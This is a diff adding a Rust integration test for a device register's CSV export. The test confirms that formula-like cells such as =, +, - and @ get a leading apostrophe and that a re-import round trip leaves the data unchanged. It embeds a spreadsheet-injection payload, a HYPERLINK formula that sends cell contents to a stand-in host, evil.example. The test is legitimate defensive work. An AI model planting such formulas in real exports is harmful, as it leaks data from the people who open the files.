@@ -966,3 +966,60 @@ async fn accounts_import(app: &App, token: &str, fields: &[(&str, &str)], csv: &
     app.send(&mut Browser::default(), req, Body::from(body))
         .await
 }
+
+/// A device named like a spreadsheet formula reaches the CSV export as text (OWASP's rule: cells
+/// starting with `= + - @`, tab or carriage return get a leading `'`), and importing that export
+/// gives back exactly what was stored.
+#[tokio::test]
+async fn exported_cells_never_run_as_formulas_and_come_back_unchanged() {
+    use serde_json::json;
+    let app = App::new().await;
+    let mut admin = app.setup().await;
+    let t = app.token(&mut admin).await;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
+    for (name, notes) in [(evil, "-5"), ("@SUM(A1)", "+1")] {
+        let r = app
+            .api(
+                &t,
+                "POST",
+                "/api/v1/registers/devices",
+                Some(json!({"kind": "server", "name": name, "location": notes})),
+            )
+            .await;
+        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    }
+    let csv = app
+        .api(&t, "GET", "/api/v1/registers/devices/export.csv", None)
+        .await;
+    let rows = csv.body.lines().skip(1).collect::<Vec<_>>().join("\n");
+    for line in csv.body.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a cell a spreadsheet would run: {cell} in {line}"
+            );
+        }
+    }
+    assert!(rows.contains("'=HYPERLINK") && rows.contains("'@SUM") && rows.contains("'-5"));
+    let r = api_multipart(
+        &app,
+        &t,
+        "/api/v1/registers/devices/import",
+        &[("devices.csv", csv.body.as_bytes())],
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    assert_eq!(
+        (r.json()["added"].as_u64(), r.json()["updated"].as_u64()),
+        (Some(0), Some(0)),
+        "the round trip changes nothing"
+    );
+    let devices = app.api(&t, "GET", "/api/v1/registers/devices", None).await;
+    assert!(
+        devices
+            .json()
+            .as_array()
+            .is_some_and(|a| a.iter().any(|d| d["name"] == evil && d["location"] == "-5"))
+    );
+}
